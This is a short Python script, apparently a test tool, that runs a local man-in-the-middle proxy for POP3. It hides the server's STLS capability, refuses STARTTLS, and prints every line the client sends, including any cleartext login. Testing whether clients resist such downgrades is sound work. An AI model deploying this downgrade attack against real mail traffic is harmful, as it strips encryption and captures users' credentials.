"""A man in the middle who hides that a POP3 server can encrypt: removes STLS from what it offers, and refuses the command.

    hiding_proxy.py PORT

Prints its own port, and then each line that the client sends.
"""

import socket
import socketserver
import sys


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as server:
            answers = server.makefile("rb")
            self.wfile.write(answers.readline())
            for line in self.rfile:
                print(line.decode("ascii", "replace").strip(), flush=True)
                if line.upper().startswith(b"STLS"):
                    self.wfile.write(b"-ERR unknown command\r\n")
                    continue
                server.sendall(line)
                answer = answers.readline()
                self.wfile.write(answer)
                if line.upper().startswith(b"CAPA") and answer.startswith(b"+OK"):
                    while answer != b".\r\n":
                        answer = answers.readline()
                        if answer.strip().upper() != b"STLS":
                            self.wfile.write(answer)


with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as proxy:
    proxy.daemon_threads = True
    print(proxy.server_address[1], flush=True)
    proxy.serve_forever()
